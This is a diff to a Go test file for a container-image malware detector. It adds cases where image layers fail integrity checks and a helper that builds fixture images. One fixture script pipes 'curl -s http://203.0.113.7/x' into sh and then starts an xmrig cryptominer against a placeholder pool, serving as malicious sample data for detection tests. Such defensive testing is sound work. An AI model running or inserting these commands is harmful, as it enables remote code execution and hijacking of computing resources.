@@ -274,6 +274,12 @@ func TestIncomplete(t *testing.T) {
 		{"benign, script limit", dt.Image(t, v1.Config{}, dt.Run("x", dt.Exec("run.sh", "#!/bin/sh\necho "+string(repeat('a', 3000))+"\n"))),
 			[]hierarchical.Option{hierarchical.WithMaxScriptBytes(1024)}, detectors.Clean},
 		{"malicious stays malicious under limits", malicious, []hierarchical.Option{hierarchical.WithWalkOptions(layers.WithMaxFileBytes(4096))}, detectors.Malicious},
+		// Integrity errors: invalid below the threshold, malicious above.
+		{"benign, diffID mismatch", integrityImage(t, false, "diffid"), nil, detectors.Invalid},
+		{"benign, truncated layer", integrityImage(t, false, "truncated"), nil, detectors.Invalid},
+		{"benign, no diff_ids", integrityImage(t, false, "no-diffids"), nil, detectors.Invalid},
+		{"miner, diffID mismatch", integrityImage(t, true, "diffid"), nil, detectors.Malicious},
+		{"miner, truncated layer", integrityImage(t, true, "truncated"), nil, detectors.Malicious},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -281,7 +287,7 @@ func TestIncomplete(t *testing.T) {
 			if v.Decision != tt.want {
 				t.Fatalf("decision = %s, want %s; findings %+v", v.Decision, tt.want, v.Findings)
 			}
-			if tt.want == detectors.Incomplete {
+			if tt.want == detectors.Incomplete || tt.want == detectors.Invalid {
 				ns := 0
 				for _, f := range v.Findings {
 					if f.Category == detectors.CategoryNotScanned {
@@ -292,11 +298,40 @@ func TestIncomplete(t *testing.T) {
 					}
 				}
 				if ns == 0 {
-					t.Errorf("incomplete without a not-scanned finding")
+					t.Errorf("%s without a not-scanned finding", tt.want)
 				}
 			}
 		})
 	}
+}
+
+// integrityImage is a one-layer image whose layer fails an integrity check
+// (how: "diffid" a wrong diffID, "truncated" a gzip stream cut after the
+// first entry, "no-diffids" a config without rootfs.diff_ids); with miner
+// its first entry is a miner script scoring over the threshold.
+func integrityImage(t *testing.T, miner bool, how string) v1.Image {
+	t.Helper()
+	first := dt.Text("etc/motd", "welcome\n")
+	if miner {
+		first = dt.Exec("usr/local/bin/start.sh", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\nnohup ./xmrig -o stratum+tcp://pool.example.com:3333 -u 4AbCd --donate-level 1 &\n")
+	}
+	tb, err := dt.Tar(first, dt.Text("etc/hostname", string(repeat('h', 64<<10))))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := dt.Blob{Data: dt.Gzip(t, tb, 6)}
+	switch how {
+	case "diffid":
+		b.DiffID = dt.Hash([]byte("other content"))
+	case "truncated":
+		b.Data = b.Data[:len(b.Data)*2/3]
+		b.DiffID = dt.Hash(tb)
+	}
+	cfg := v1.ConfigFile{Architecture: "amd64", OS: "linux"}
+	if how == "no-diffids" {
+		return dt.RawImageWithoutDiffIDs(t, cfg, b)
+	}
+	return dt.RawImage(t, cfg, b)
 }
 
 func TestConcurrentScans(t *testing.T) {
